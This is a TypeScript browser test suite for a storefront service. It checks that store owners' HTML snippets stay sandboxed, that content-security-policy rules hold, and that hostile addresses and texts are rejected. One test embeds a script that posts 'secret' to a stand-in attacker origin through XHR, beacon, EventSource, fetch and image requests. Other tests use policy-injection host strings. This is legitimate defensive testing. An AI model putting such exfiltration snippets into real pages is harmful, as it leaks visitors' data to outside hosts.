import { mkdtemp, rm } from 'node:fs/promises'
import { createServer } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { categoryDraft, productDraft, type StoreId, storeDraft, storeUpdate } from '@linkshelf/contract'
import type { BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { type OpenBrowser, openBrowser } from '../../../../harness/open-browser.ts'
import { hostileCategory, hostileProduct, hostileStore, toOneLine } from '../../test/attacks/hostile-store.ts'
import { createAttackSnippet, markupAttacks, snippetAttacks } from '../../test/attacks/snippet-attacks.ts'
import { acceptedAddresses, addressAttacks, attackerOrigin, colorAttacks, textAttacks } from '../../test/attacks/text-attacks.ts'
import { aCategory, aLink, aProduct, aProject, aStore } from '../../test/builders/builders.ts'
import { queryAsOwner } from '../../test/databases/run-as-owner.ts'
import { openTestDeps, type TestDeps } from '../../test/open-test-deps.ts'
import type { ProjectContext } from '../access/index.ts'
import { openEdge } from '../edge/index.ts'
import { setOrganizationSettings } from '../organizations/index.ts'
import { closeServer, listen } from '../platform/http/listen.ts'
import { updateStore } from '../stores/stores.ts'

let deps: TestDeps
let ctx: ProjectContext
let folder: string
let edge: Awaited<ReturnType<typeof openEdge>>
let storeId: StoreId
let browser: OpenBrowser
let app: string
/** Requests to the app that had its cookie, except the request for the page that opened the store. */
let stolenRequests: string[]

const appServer = createServer((request, response) => {
  if (request.url !== '/opener' && request.headers.cookie !== undefined) stolenRequests.push(`${request.method} ${request.url}`)
  response.setHeader('set-cookie', 'session=secret; HttpOnly; SameSite=Lax')
  response.setHeader('content-type', 'text/html')
  response.end(`<title>App</title><a rel="opener" target="_blank" href="http://127.0.0.1:${edge.port}/@lamps">Store</a>`)
})

beforeAll(async () => {
  deps = await openTestDeps()
  ctx = await aProject(deps)
  storeId = (await aStore(deps, ctx, { name: 'Lamps' })).store_id
  folder = await mkdtemp(join(tmpdir(), 'linkshelf-attacks-'))
  const { edgeDb: db, listenerUrl, clock, ids, log } = deps
  const options = {
    host: '127.0.0.1',
    port: 0,
    publicOrigin: 'http://127.0.0.1',
    durability: 'process',
    trustedProxies: [],
    lookupTimeoutMs: 60_000, // a busy machine must not answer with 503
  } as const
  edge = await openEdge({ ...options, journalsFolder: folder, db, listenerUrl, clock, ids, log })
  app = `http://localhost:${await listen(appServer, '127.0.0.1', 0, 'PORT')}`
  browser = await openBrowser()
})

afterAll(async () => {
  await browser[Symbol.asyncDispose]()
  await Promise.all([edge.close(), closeServer(appServer)])
  await rm(folder, { recursive: true })
  await deps[Symbol.asyncDispose]()
})

interface Visitor extends AsyncDisposable {
  context: BrowserContext
  page: Page
  /** Requests to the attacker, and other events that a page must not cause. */
  incidents: string[]
}

/** Opens the store as a visitor who came from the app, where they are signed in. */
async function openVisitor(): Promise<Visitor> {
  stolenRequests = []
  const incidents: string[] = []
  const { context, page: opener } = await browser.newVisitor()
  await context.route(/^https:/, (route) => {
    const { href, origin } = new URL(route.request().url())
    if (origin === attackerOrigin) incidents.push(href.slice(origin.length))
    return route.fulfill({ contentType: 'text/html', body: '' })
  })
  await opener.goto(`${app}/opener`)
  const [page] = await Promise.all([context.waitForEvent('page'), opener.getByText('Store').click()])
  await page.waitForLoadState()
  context.on('page', (opened) => void incidents.push(`opened ${opened.url()}`))
  page.on('dialog', (dialog) => {
    incidents.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('download', () => incidents.push('download'))
  return { context, page, incidents, [Symbol.asyncDispose]: () => context.close() }
}

it.each(addressAttacks)('accepts no address %j', (address) => {
  const fields = ['logo', 'favicon', 'banner_image', 'custom_fonts_url', 'imprint_url', 'privacy_url', 'contact_url', 'newsletter_url']
  const accepted = fields.filter((field) => storeDraft.safeParse({ name: 'Lamps', [field]: address }).success)
  const product = ['image_url', 'product_url'].filter((field) => productDraft.safeParse({ name: 'Lamp', [field]: address }).success)

  const category = ['image_url'].filter((field) => categoryDraft.safeParse({ name: 'Lamps', [field]: address }).success)

  expect([...accepted, ...product, ...category]).toEqual([])
  expect(storeDraft.safeParse({ name: 'Lamps', social_links: [address] }).success).toBe(false)
  const featured = { url_id: '0197a000-0000-7000-8000-000000000001', title: 'Lamps', image_url: address }
  expect(storeDraft.safeParse({ name: 'Lamps', featured_links: [featured] }).success).toBe(false)
})

it.each(colorAttacks)('accepts no color %j', (color) => {
  expect(['main_color', 'secondary_color'].filter((field) => storeUpdate.safeParse({ name: 'Lamps', [field]: color }).success)).toEqual([])
})

it('accepts no attack as the name of a newsletter field, and no form that posts over http', () => {
  const accepts = (fields: object) => storeDraft.safeParse({ name: 'Lamps', ...fields }).success

  expect(textAttacks.filter((newsletter_field) => accepts({ newsletter_field }))).toEqual([])
  expect(
    ['http://mia.example/form', 'http://localhost:3001/media/x', 'javascript:1'].filter((url) => accepts({ newsletter_url: url })),
  ).toEqual([])
  expect(accepts({ newsletter_url: 'https://mia.example/form', newsletter_field: 'fields[email]' })).toBe(true)
})

it('accepts no address of fonts or a newsletter whose host means more than one host in a policy', () => {
  const hosts = ['*', '*.example', 'a;script-src.example', 'a,b.example', "'self'"]
  const fields = ['custom_fonts_url', 'newsletter_url'] as const
  const accepted = (host: string) => fields.filter((field) => storeDraft.safeParse({ name: 'Lamps', [field]: `https://${host}/x` }).success)

  expect(hosts.flatMap(accepted)).toEqual([])
  expect(['fonts.example', 'xn--lamp-1ta.example', '192.0.2.7', '[2001:db8::1]'].map(accepted)).toEqual(Array(4).fill(fields))
})

it('omits from the policy hosts that were stored before they were rejected', async () => {
  await ownStore('<p>Own</p>')
  await queryAsOwner(
    deps,
    "update stores set custom_fonts_url = 'https://*/fonts.css', newsletter_url = 'https://*.example/' where id = $1",
    [storeId],
  )
  const policy = async () => (await fetch(`http://127.0.0.1:${edge.port}/@lamps`)).headers.get('content-security-policy')
  await expect
    .poll(async () => (await (await fetch(`http://127.0.0.1:${edge.port}/@lamps`)).text()).includes('https://*.example/'))
    .toBe(true)
  expect(await policy()).not.toContain('*')
  await queryAsOwner(deps, 'update stores set custom_fonts_url = null, newsletter_url = null where id = $1', [storeId])
})

it('lets a newsletter form post only to its provider, and allows no form on a store without a newsletter', async () => {
  await ownStore('<p>Own</p>')
  const policy = async () => (await fetch(`http://127.0.0.1:${edge.port}/@lamps`)).headers.get('content-security-policy')
  expect(await policy()).toContain("form-action 'self';")
  const newsletter_url = 'https://provider.example/subscribe?list=1'
  await updateStore(deps, ctx, { storeId, update: storeUpdate.parse({ name: 'Lamps', newsletter_url }) })
  await expect.poll(policy).toContain("form-action 'self' https://provider.example;")
  await using visitor = await openVisitor()
  const { context, page } = visitor
  const posted: string[] = []
  await context.route(/^https:.*subscribe/, (route) => {
    posted.push(`${route.request().method()} ${route.request().url()} ${route.request().postData()}`)
    return route.fulfill({ contentType: 'text/html', body: 'Thanks' })
  })

  await page.getByRole('textbox', { name: 'Email address' }).fill('noah@example.com')
  await page.getByRole('button', { name: 'Subscribe' }).click()
  await page.getByText('Thanks').waitFor()
  expect(posted).toEqual([`POST ${newsletter_url} email=noah%40example.com`])
  await updateStore(deps, ctx, { storeId, update: storeUpdate.parse({ name: 'Lamps', newsletter_url: null }) })
})

it('accepts no text as the ratio of pictures, which is a class of the page', () => {
  expect(textAttacks.filter((picture_ratio) => storeUpdate.safeParse({ name: 'Lamps', picture_ratio }).success)).toEqual([])
})

it("gives the owner's HTML no access to storage, opener, parent, top, app or window", async () => {
  await ownStore(createAttackSnippet(app))
  await using visitor = await openVisitor()
  const { context, page, incidents } = visitor
  const address = page.url()

  await page.locator('iframe').scrollIntoViewIfNeeded()
  await expect.poll(() => incidents).toContain('/reached/the%20end')
  await page.waitForLoadState('networkidle')

  expect(snippetAttacks.length).toBeGreaterThanOrEqual(50)
  expect(incidents).toEqual(['/reached/the%20end'])
  expect(page.url()).toBe(address)
  expect(context.pages().map((open) => new URL(open.url()).pathname)).toEqual(['/opener', '/@lamps'])
  expect(await context.cookies(`http://127.0.0.1:${edge.port}`)).toEqual([])
  expect(await page.evaluate(() => localStorage.length)).toBe(0)
  expect(stolenRequests).toEqual([])
})

it.each(markupAttacks)('sends no visitor away by %j', async (snippet) => {
  await ownStore(snippet)
  await using visitor = await openVisitor()
  const { context, page, incidents } = visitor
  const address = page.url()
  await page.locator('iframe').scrollIntoViewIfNeeded()
  await page.locator('iframe').click()
  await page.keyboard.press('Enter')
  await page.waitForLoadState('networkidle')

  expect(page.url()).toBe(address)
  expect(context.pages()).toHaveLength(2)
  expect(incidents.filter((incident) => !incident.startsWith('/frame'))).toEqual([])
})

it("shows the owner's HTML in its frame, and the store if its address is opened as a tab", async () => {
  await ownStore('<p>Sign in to 127.0.0.1</p>')
  await using visitor = await openVisitor()
  const { context, page } = visitor
  const store = page.url()
  await page.locator('iframe').scrollIntoViewIfNeeded()
  await page.frameLocator('iframe').getByText('Sign in to').waitFor()

  const tab = await context.newPage()
  await tab.goto(`${store}/snippet`)
  expect(tab.url()).toBe(store)
  await tab.frameLocator('iframe').getByText('Sign in to').waitFor()
  await page.goto(`${app}/opener`)
  await page.setContent(`<a href="${store}/snippet">Sign in</a>`)
  await page.getByText('Sign in').click()
  await page.waitForURL(store)
})

it("lets the owner's HTML load pictures, and lets its scripts connect only on a paid plan", async () => {
  const url = (path: string) => JSON.stringify(`${attackerOrigin}/${path}`)
  await ownStore(`<script>
    const xhr = new XMLHttpRequest(); xhr.open('POST', ${url('xhr')}); xhr.send('secret')
    navigator.sendBeacon(${url('beacon')}, 'secret')
    new EventSource(${url('events')})
    fetch(${url('fetch')}, { method: 'POST', mode: 'no-cors', body: 'secret' }).catch(() => {}).then(() => { new Image().src = ${url('picture')} })
  </script>`)
  await using free = await openVisitor()
  await free.page.locator('iframe').scrollIntoViewIfNeeded()
  await expect.poll(() => free.incidents).toContain('/picture')
  await free.page.waitForLoadState('networkidle')
  expect(free.incidents).toEqual(['/picture'])

  await setOrganizationSettings(deps, ctx.organization.id, ['package=Starter'])
  const policy = async () => (await fetch(`http://127.0.0.1:${edge.port}/@lamps/snippet`)).headers.get('content-security-policy')
  await expect.poll(policy).not.toContain('connect-src')
  await using paid = await openVisitor()
  await paid.page.locator('iframe').scrollIntoViewIfNeeded()
  await expect.poll(() => paid.incidents).toEqual(expect.arrayContaining(['/xhr', '/beacon', '/events', '/fetch', '/picture']))
  await setOrganizationSettings(deps, ctx.organization.id, ['package=Free'])
})

it("lets no other site frame the store's pages or the owner's HTML", async () => {
  await ownStore('<p>Own</p>')
  await using visitor = await openVisitor()
  const { page } = visitor
  const framed = ['/@lamps', '/@lamps/snippet'].map((path) => `<iframe src="http://127.0.0.1:${edge.port}${path}"></iframe>`)
  await page.goto(`${app}/opener`)
  await page.setContent(framed.join(''))
  await page.waitForLoadState('networkidle')

  expect(
    page
      .frames()
      .slice(1)
      .map((frame) => frame.url()),
  ).toEqual(['chrome-error://chromewebdata/', 'chrome-error://chromewebdata/'])
})

it("runs none of an owner's texts, wherever they are shown", async () => {
  const [first = ''] = textAttacks
  const lastAttacks = textAttacks.join('\n').slice(-2_000)
  const { url_id } = await aLink(deps, ctx)
  const category = await aCategory(deps, ctx, { name: textAttacks[16], ...hostileCategory })
  const product = await aProduct(deps, ctx, { ...hostileProduct, urls: [url_id], categories: [category.category_id] })
  for (const name of textAttacks) await aProduct(deps, ctx, { name: toOneLine(name), description: lastAttacks, urls: [url_id] })
  const featured_links = [
    { url_id, title: textAttacks[15], subtitle: (textAttacks[9] ?? '').slice(0, 160), image_url: acceptedAddresses[0] },
  ]
  await updateStore(deps, ctx, { storeId, update: storeUpdate.parse({ name: 'Lamps', ...hostileStore, featured_links }) })
  await expect.poll(async () => (await fetch(`http://127.0.0.1:${edge.port}/@lamps`)).text()).toContain('pictures.example')
  await using visitor = await openVisitor()
  const { page, incidents } = visitor

  const search = `?q=${encodeURIComponent(first)}`
  const paths = ['', `/${category.slug}`, `/${product.slug}`, `/p/${product.product_id}`, search, `/${encodeURIComponent(first)}`]
  for (const path of paths) {
    await page.goto(`http://127.0.0.1:${edge.port}/@lamps${path}`)
    await page.mouse.move(300, 300)
    for (let stop = 0; stop < 5; stop += 1) await page.keyboard.press('Tab')
  }

  expect(textAttacks.length + acceptedAddresses.length).toBeGreaterThanOrEqual(60)
  expect(await page.locator('script:not([type="application/ld+json"])').count()).toBe(0)
  expect(incidents).toEqual([])
})

/** Gives the store this HTML, and waits until the edge serves it. */
async function ownStore(snippet: string): Promise<void> {
  await updateStore(deps, ctx, { storeId, update: storeUpdate.parse({ name: 'Lamps', snippet }) })
  const served = async () => (await fetch(`http://127.0.0.1:${edge.port}/@lamps/snippet`)).text()
  await expect.poll(served).toContain(snippet)
}
